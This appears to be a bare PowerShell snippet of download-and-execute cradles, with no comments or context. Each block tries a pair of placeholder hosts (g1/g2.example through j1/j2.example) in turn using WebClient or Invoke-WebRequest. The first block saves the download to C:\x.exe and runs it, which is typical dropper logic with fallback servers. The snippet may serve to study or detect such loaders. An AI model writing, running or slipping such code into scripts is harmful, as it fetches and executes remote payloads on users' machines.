function dl($u){ foreach($i in $u){ try{ (New-Object Net.WebClient).DownloadFile($i,'C:\x.exe'); return $true }catch{} } return $false }
if(dl @('http://g1.example/','http://g2.example/')){ start C:\x.exe }
$u='http://h1.example/','http://h2.example/'; $i=0
do{ try{ $c=(New-Object Net.WebClient).DownloadString($u[$i]); break }catch{$i++} }while($i -lt 2)
foreach($z in 'http://i1.example/','http://i2.example/'){ try{ iwr $z -OutFile x; if($?){break} }catch{} }
switch('http://j1.example/','http://j2.example/'){ default { try{ iwr $_; break }catch{} } }
